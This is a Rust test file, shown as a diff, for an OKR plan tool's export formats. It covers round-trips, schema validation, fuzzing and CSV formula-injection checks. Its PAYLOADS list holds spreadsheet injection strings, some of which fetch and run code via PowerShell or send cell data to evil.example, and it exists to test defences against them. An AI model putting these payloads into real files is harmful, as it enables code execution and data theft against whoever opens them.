@@ -1,0 +1,462 @@
+//! Laws that hold for every format, written once and run over all of them.
+
+use std::collections::HashSet;
+use std::fs;
+
+use okr_core::diagnostic::Severity;
+use okr_core::model::{
+    CheckIn, ElementId, Initiative, Inline, KeyResult, Link, Objective, Plan, Section, parse_date,
+};
+use okr_core::parse;
+use okr_render::{Carries, FORMATS, Format, Part, ReadOptions, WriteOptions};
+use proptest::prelude::*;
+use serde_json::Value;
+
+use crate::support::root;
+use crate::support::strategies::{plan, source, source_with_elements};
+
+#[track_caller]
+fn assert_same(left: &Plan, right: &Plan, context: &str) {
+    if left == right {
+        return;
+    }
+    let (left, right) = (format!("{left:#?}"), format!("{right:#?}"));
+    let differing: Vec<_> = left.lines().zip(right.lines()).filter(|(left, right)| left != right).take(8).collect();
+    panic!("{context}\n=== the plans differ: {differing:#?}");
+}
+
+/// Many cases take long; `PROPTEST_CASES` asks for more of them.
+fn config() -> ProptestConfig {
+    let cases = std::env::var("PROPTEST_CASES").ok().and_then(|cases| cases.parse().ok()).unwrap_or(150);
+    ProptestConfig { cases, ..ProptestConfig::default() }
+}
+
+fn written(format: &Format, plan: &Plan) -> Vec<u8> {
+    (format.write)(plan, &WriteOptions::default()).unwrap_or_else(|error| panic!("{}: {error}", format.name))
+}
+
+/// Checks that what a format carries of a plan comes back, and that its bytes are always the same.
+///
+/// Returns the gravest thing that is said on reading.
+#[track_caller]
+fn check_round_trip(format: &Format, plan: &Plan) -> Option<Severity> {
+    let carried = format.carries.reduce(plan);
+    assert_same(&format.carries.reduce(&carried), &carried, &format!("{}: reducing twice is reducing once", format.name));
+    let mut gravest = None;
+    for byte_order_mark in [false, true] {
+        let mut options = WriteOptions::default();
+        options.byte_order_mark = byte_order_mark;
+        let bytes = (format.write)(plan, &options).unwrap_or_else(|error| panic!("{}: {error}", format.name));
+        assert!((format.write)(plan, &options).is_ok_and(|again| again == bytes), "{}: the same bytes twice", format.name);
+        let context = format!("{}\n{}", format.name, String::from_utf8_lossy(&bytes));
+        let read = (format.read)(&bytes, &ReadOptions::default()).unwrap_or_else(|error| panic!("{error}: {context}"));
+        assert_same(&read.plan, &carried, &context);
+        gravest = gravest.max(read.diagnostics.iter().map(|diagnostic| diagnostic.severity).max());
+        // What came back is carried whole: the second time, nothing more is lost.
+        assert!(byte_order_mark || written(format, &read.plan) == written(format, &carried), "{context}");
+    }
+    gravest
+}
+
+/// Checks that a reader takes any bytes, and that what it makes of them is a plan like any other.
+fn check_any_bytes(bytes: &[u8]) {
+    for format in FORMATS {
+        if let Ok(read) = (format.read)(bytes, &ReadOptions::default()) {
+            for other in FORMATS {
+                let _ = written(other, &read.plan);
+            }
+        }
+    }
+}
+
+proptest! {
+    #![proptest_config(config())]
+
+    #[test]
+    fn what_a_format_carries_of_a_plan_comes_back(plan in plan()) {
+        for format in FORMATS {
+            let gravest = check_round_trip(format, &plan);
+            prop_assert!(gravest < Some(Severity::Error), "{}: what was just written is understood", format.name);
+        }
+    }
+
+    #[test]
+    fn what_a_format_carries_of_a_document_comes_back(text in source_with_elements()) {
+        let plan = parse(text).plan;
+        for format in FORMATS {
+            check_round_trip(format, &plan);
+        }
+    }
+
+    #[test]
+    fn json_is_as_its_schema_says(plan in plan(), text in source_with_elements()) {
+        for plan in [plan, parse(text).plan] {
+            let json = written(named("json"), &plan);
+            let json: Value = serde_json::from_slice(&json).expect("is JSON");
+            let faults: Vec<_> = validator().iter_errors(&json).map(|error| format!("{}: {error}", error.instance_path())).collect();
+            prop_assert!(faults.is_empty(), "{faults:#?}\n{json:#}");
+        }
+    }
+
+    #[test]
+    fn no_cell_of_any_table_is_a_formula(plan in plan(), text in source_with_elements()) {
+        assert_no_formula(&written(named("csv"), &plan));
+        assert_no_formula(&written(named("csv"), &parse(text).plan));
+    }
+
+    #[test]
+    fn no_bytes_make_a_reader_panic(bytes in any::<Vec<u8>>()) {
+        check_any_bytes(&bytes);
+    }
+
+    #[test]
+    fn no_text_makes_a_reader_panic(text in any::<String>(), source in source()) {
+        check_any_bytes(text.as_bytes());
+        check_any_bytes(source.as_bytes());
+    }
+
+    #[test]
+    fn no_damage_makes_a_reader_panic(
+        plan in plan(),
+        places in prop::collection::vec((any::<prop::sample::Index>(), 0_usize..9, prop::sample::select(&b"\"',;\n\r\t{}[]<>\\=-0\xff\x00"[..])), 1..4),
+    ) {
+        for format in FORMATS {
+            let mut bytes = written(format, &plan);
+            for (place, length, byte) in &places {
+                if !bytes.is_empty() {
+                    let at = place.index(bytes.len());
+                    let end = (at + length).min(bytes.len());
+                    bytes.splice(at..end, [*byte]);
+                }
+            }
+            check_any_bytes(&bytes);
+        }
+    }
+
+    #[test]
+    fn no_table_makes_the_reader_panic(
+        headings in prop::collection::vec(prop::sample::select(&["Ref", "Type", "Title", "Parent", "Due", "Target", "Target rule", "Start", "Unit", "Period", "After", "Status", "", "x", "Field: Title"][..]), 1..8),
+        rows in prop::collection::vec(prop::collection::vec(prop::sample::select(&["", "P", "O1", "O1-KR1", "O1-KR1-I1", "O0", "O99999999999999999999", "S1", "Plan", "Objective", "key result", "Initiative", "Section", "5", "5%", "-", "31.12.2026", "2026-13-40", "by +25%", "done", "'=x", "\u{feff}", "\"", "1e9", "2026-M11"][..]), 0..9), 0..9),
+        separator in prop::sample::select(&[",", ";", "\t"][..]),
+    ) {
+        let mut text = headings.join(separator);
+        for row in rows {
+            text.push_str("\r\n");
+            text.push_str(&row.join(separator));
+        }
+        check_any_bytes(text.as_bytes());
+    }
+}
+
+fn named(name: &str) -> &'static Format {
+    Format::named(name).unwrap_or_else(|error| panic!("{error}"))
+}
+
+#[test]
+fn formats_are_sorted_and_each_has_a_name_an_ending_and_a_document() {
+    assert!(FORMATS.is_sorted_by_key(|format| format.name));
+    let mut taken = HashSet::new();
+    for format in FORMATS {
+        let name = format.name;
+        assert!(!format.extensions.is_empty(), "{name} has an ending");
+        let known: HashSet<&str> = std::iter::once(name).chain(format.extensions.iter().copied()).collect();
+        for word in known {
+            assert!(word.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit()), "{word} is in lower case");
+            assert!(taken.insert(word), "{word} means one format");
+            assert_eq!(named(word).name, name);
+            assert_eq!(named(&word.to_uppercase()).name, name);
+        }
+        for extension in format.extensions {
+            let file = format!("a.b.{}", extension.to_uppercase());
+            assert_eq!(Format::of_file_name(&file).map(|format| format.name).ok(), Some(name));
+        }
+        assert!(format.docs.starts_with("# "), "{name}: its document begins with a heading");
+        assert!(format.docs.lines().count() > 3, "{name}: its document says something");
+        let lost: Vec<_> = format.carries.missing().collect();
+        if !lost.is_empty() {
+            assert!(format.docs.contains("## What does not come back"), "{name} loses {lost:?}, and its document tells");
+        }
+    }
+}
+
+#[test]
+fn markdown_html_and_json_carry_everything() {
+    for name in ["markdown", "html", "json"] {
+        assert_eq!(named(name).carries, Carries::ALL, "{name}");
+    }
+    assert!(Part::ALL.iter().any(|part| !named("csv").carries.contains(*part)), "CSV is a table, and says what it loses");
+}
+
+#[test]
+fn what_is_not_carried_is_really_lost() {
+    let text = "## Objective: *a*\n\n### Key result: b\n\n- Baseline: 68\n- Target: 85%\n- Colour:\n\n| Date | Value |\n| - | - |\n| 2026-10-09 | 70% |\n";
+    let plan = parse(text).plan;
+    for format in FORMATS {
+        let read = (format.read)(&written(format, &plan), &ReadOptions::default()).expect("is of its format").plan;
+        for part in format.carries.missing() {
+            assert_ne!(Carries::ALL.without(part).reduce(&plan), plan, "the plan has {part}");
+            assert_eq!(Carries::ALL.without(part).reduce(&read), read, "{}: {part} does not come back", format.name);
+        }
+    }
+}
+
+#[test]
+fn an_empty_plan_comes_back_from_every_format() {
+    for format in FORMATS {
+        assert_eq!(check_round_trip(format, &Plan::default()), None, "{}", format.name);
+    }
+}
+
+#[test]
+fn the_plans_of_the_fixtures_come_back_from_every_format() {
+    let folder = root().join("tests/fixtures/plans/valid");
+    let mut count = 0;
+    for entry in fs::read_dir(folder).expect("is there") {
+        let path = entry.expect("is readable").path();
+        if path.extension().is_some_and(|extension| extension == "md") {
+            let plan = parse(fs::read_to_string(&path).expect("is UTF-8")).plan;
+            for format in FORMATS {
+                check_round_trip(format, &plan);
+            }
+            count += 1;
+        }
+    }
+    assert!(count > 0, "there are plans");
+}
+
+fn schema() -> Value {
+    let text = fs::read_to_string(root().join("docs/plan.schema.json")).expect("is there");
+    serde_json::from_str(&text).expect("is JSON")
+}
+
+fn validator() -> &'static jsonschema::Validator {
+    static VALIDATOR: std::sync::LazyLock<jsonschema::Validator> = std::sync::LazyLock::new(|| jsonschema::validator_for(&schema()).expect("is a schema"));
+    &VALIDATOR
+}
+
+#[test]
+fn the_schema_is_one() {
+    assert!(jsonschema::meta::is_valid(&schema()));
+    assert!(named("json").docs.contains("docs/plan.schema.json"));
+}
+
+/// Plans in which everything occurs.
+fn full_plan() -> Plan {
+    parse(
+        "---\nplan: A\nperiod: FY2027-Q1\nteam: F\nowner: D\ncadence: weekly\ntemplate: accounts-team\nfiscal-year-start: April\nfiscal-year-label: start\ncolour: blue\n---\n\n# A\n\ntext\n\n\
+         ## Objective: a\n\n- Id: o\n- Owner: D\n- Type: committed\n- Supports: [b](c.md#d)\n- Colour: red\n- [x] e (@kim, due 2026-11-15)\n\ntext\n\n\
+         ### Key result: f\n\n- Id: k\n- Owner: S\n- Measure: g\n- Unit: %\n- Direction: increase\n- Baseline: 68%\n- Baseline question: How?\n- Target: +25%\n- Due: 2026-12-31\n- Source: h\n- Colour: red\n- [ ] i\n  text\n\ntext\n\n\
+         | Date | Value | Status | Confidence | Note | Mood |\n| - | - | - | - | - | - |\n| 2026-10-09 | 70% | on track | 7 | j | k |\n\n## Notes\n\ntext\n",
+    )
+    .plan
+}
+
+#[test]
+fn the_schema_knows_everything_that_a_plan_can_hold() {
+    let json: Value = serde_json::from_slice(&written(named("json"), &full_plan())).expect("is JSON");
+    assert!(validator().is_valid(&json), "{json:#}");
+    // Every key that is written is named by the schema: with a key more, it is refused.
+    let mut refused = 0;
+    for_each_object(&json, &mut Vec::new(), &mut |path| {
+        let mut changed = json.clone();
+        let object = path.iter().fold(&mut changed, |value, step| match step {
+            Step::Key(key) => &mut value[key.as_str()],
+            Step::Index(index) => &mut value[*index],
+        });
+        object["no-such-key"] = Value::Null;
+        refused += usize::from(!validator().is_valid(&changed));
+    });
+    assert!(refused >= 10, "unknown keys are refused nearly everywhere: {refused}");
+}
+
+#[derive(Clone)]
+enum Step {
+    Key(String),
+    Index(usize),
+}
+
+fn for_each_object(value: &Value, path: &mut Vec<Step>, visit: &mut impl FnMut(&[Step])) {
+    let children: Vec<(Step, &Value)> = match value {
+        Value::Object(object) => {
+            visit(path);
+            object.iter().map(|(key, value)| (Step::Key(key.clone()), value)).collect()
+        }
+        Value::Array(list) => list.iter().enumerate().map(|(index, value)| (Step::Index(index), value)).collect(),
+        _ => return,
+    };
+    for (step, value) in children {
+        path.push(step);
+        for_each_object(value, path, visit);
+        path.pop();
+    }
+}
+
+#[test]
+fn the_schema_refuses_what_is_no_plan() {
+    let valid = serde_json::json!({ "schema": "okr-plan/1", "title": "A", "objectives": [{ "title": "a", "key_results": [{ "title": "b" }] }] });
+    assert!(validator().is_valid(&valid), "{:?}", validator().iter_errors(&valid).map(|error| error.to_string()).collect::<Vec<_>>());
+    #[track_caller]
+    fn check(valid: &Value, change: impl FnOnce(&mut Value)) {
+        let mut wrong = valid.clone();
+        change(&mut wrong);
+        assert!(!validator().is_valid(&wrong), "{wrong:#}");
+    }
+    check(&valid, |plan| plan["schema"] = "okr-plan/2".into());
+    check(&valid, |plan| drop(plan.as_object_mut().expect("an object").remove("schema")));
+    check(&valid, |plan| plan["title"] = 5.into());
+    check(&valid, |plan| plan["period"] = "2026-Q4".into());
+    check(&valid, |plan| plan["objectives"] = "none".into());
+    check(&valid, |plan| plan["objectives"][0]["titel"] = "a".into());
+    check(&valid, |plan| plan["objectives"][0]["type"] = 1.into());
+    check(&valid, |plan| plan["objectives"][0]["key_results"][0]["due"] = "soon".into());
+    check(&valid, |plan| plan["objectives"][0]["key_results"][0]["measure"] = serde_json::json!({ "start": { "value": 68.5, "unit": "%" } }));
+}
+
+/// What people have put into cells to make a spreadsheet run it, and what comes near to it.
+const PAYLOADS: &[&str] = &[
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "=cmd|' /C powershell IEX(wget evil.example/x.exe)'!A0",
+    "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"click\")",
+    "=IMPORTXML(CONCAT(\"http://evil.example?v=\",CONCATENATE(A2:E2)),\"//a\")",
+    "=IMPORTDATA(\"http://evil.example\")",
+    "=IMPORTFEED(\"http://evil.example\")",
+    "=IMPORTHTML(\"http://evil.example\",\"table\",1)",
+    "=IMPORTRANGE(\"x\",\"A1\")",
+    "=IMAGE(\"http://evil.example/x.png\")",
+    "=WEBSERVICE(\"http://evil.example\")",
+    "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "='file:///etc/passwd'#$passwd.A1",
+    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+    "=2+5+cmd|' /C calc'!A0",
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "+SUM(A1:A9)",
+    "+49 30 1234567",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!D2",
+    "-cmd|' /C calc'!A0",
+    "- a dash",
+    "--1",
+    "-",
+    "+",
+    "=",
+    "@",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@SUM(A1)",
+    "@ada",
+    "@",
+    "==1",
+    "=-1",
+    "+=1",
+    "'=1+1",
+    "''=1+1",
+    "'+1",
+    "'-1",
+    "'@x",
+    "'-5%",
+    "\u{a0}=1+1",
+    "\u{200b}=1+1",
+    "\u{feff}=1+1",
+    "\u{2060}@x",
+    "\u{3000}=1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "\"=1+1\"",
+    "\"\"=1+1",
+    "=\"a\"\"b\"",
+    "=1,=2",
+    "=1;=2",
+    "=1\t=2",
+    ";=1+1",
+    ",=1+1",
+    "|=1+1",
+    "%0A=1+1",
+    "=A1%",
+    "+1.000,00",
+    "-1e5",
+    "-5 %",
+    "+25% (a)",
+    "=sum(1)|x",
+    "a=1",
+    "5-3",
+    "-5%",
+    "+5",
+    "0",
+];
+
+/// A plan that has the text wherever there can be text.
+fn plan_of(payload: &str) -> Plan {
+    let line = || Inline::from_plain(payload);
+    let words = || Some(payload.to_owned());
+    let mut key_result = KeyResult { title: line(), id: words(), owner: words(), text: payload.to_owned(), ..KeyResult::default() };
+    key_result.measure.name = Some(line());
+    key_result.measure.question = Some(line());
+    key_result.measure.source = Some(line());
+    key_result.fields.insert(format!("x{payload}"), line());
+    let initiative = Initiative { title: line(), owner: words(), text: payload.to_owned(), ..Initiative::default() };
+    key_result.initiatives.push(initiative.clone());
+    let mut check_in = CheckIn::new(parse_date("2026-10-09").expect("is a date"));
+    check_in.note = Some(line());
+    key_result.check_ins.push(check_in);
+    let mut objective = Objective { title: line(), id: words(), owner: words(), text: payload.to_owned(), key_results: vec![key_result], initiatives: vec![initiative], ..Objective::default() };
+    objective.supports.push(Link { text: payload.to_owned(), target: payload.to_owned() });
+    objective.fields.insert("Colour".to_owned(), line());
+    let mut plan = Plan { name: words(), title: Some(line()), team: words(), owner: words(), template: words(), text: payload.to_owned(), objectives: vec![objective], ..Plan::default() };
+    plan.sections.push(Section { title: line(), text: payload.to_owned(), position: 1 });
+    plan.front_matter.insert("colour".to_owned(), payload.to_owned());
+    plan
+}
+
+#[test]
+fn no_formula_gets_into_a_table_and_every_text_comes_back() {
+    let csv = named("csv");
+    assert!(PAYLOADS.iter().filter(|payload| !payload.chars().next().is_some_and(char::is_alphanumeric)).count() >= 50);
+    for payload in PAYLOADS {
+        let plan = plan_of(payload);
+        let bytes = written(csv, &plan);
+        assert_no_formula(&bytes);
+        let read = (csv.read)(&bytes, &ReadOptions::default()).unwrap_or_else(|error| panic!("{payload:?}: {error}"));
+        assert_same(&read.plan, &csv.carries.reduce(&plan), payload);
+        let key_result = read.plan.key_result(ElementId::KeyResult(0, 0)).expect("is there");
+        let plain = Inline::from_plain(payload).plain().into_owned();
+        assert_eq!(key_result.title.plain(), plain);
+        assert_eq!(key_result.initiatives[0].title.plain(), plain);
+        assert_eq!(key_result.owner.as_deref(), Some(*payload));
+    }
+}
+
+#[test]
+fn the_search_for_formulas_finds_them() {
+    for cell in ["=1", "+a", "-a", "@a", " =1", "\t=1", "\u{a0}-x", "\u{200b}=1", "＝1", "-1+1", "\"\r\n=1\""] {
+        let table = format!("a,b\r\nx,{cell}\r\n");
+        assert!(formulas(table.as_bytes()).len() == 1, "{cell:?}");
+    }
+    assert_eq!(formulas("a,b\r\n-5%,'=1\r\n+3,-0.5\r\n,a=b\r\n".as_bytes()), [""; 0]);
+}
+
+/// Checks that no cell of a CSV file begins with what a spreadsheet takes for a formula.
+#[track_caller]
+pub(crate) fn assert_no_formula(table: &[u8]) {
+    let formulas = formulas(table);
+    assert!(formulas.is_empty(), "{formulas:?} in {}", String::from_utf8_lossy(table));
+}
+
+/// Returns the cells that a spreadsheet might take for a formula: those that begin, after what does not
+/// show, with a formula's sign, and are no plain number.
+fn formulas(table: &[u8]) -> Vec<String> {
+    let is_unseen = |c: char| c.is_whitespace() || c.is_control() || matches!(c, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2064}' | '\u{feff}');
+    let is_number = |cell: &str| cell.strip_suffix('%').unwrap_or(cell).parse::<rust_decimal::Decimal>().is_ok();
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(table);
+    let mut found = Vec::new();
+    for record in reader.records() {
+        for cell in &record.expect("is CSV") {
+            if cell.trim_start_matches(is_unseen).starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']) && !is_number(cell) {
+                found.push(cell.to_owned());
+            }
+        }
+    }
+    found
+}
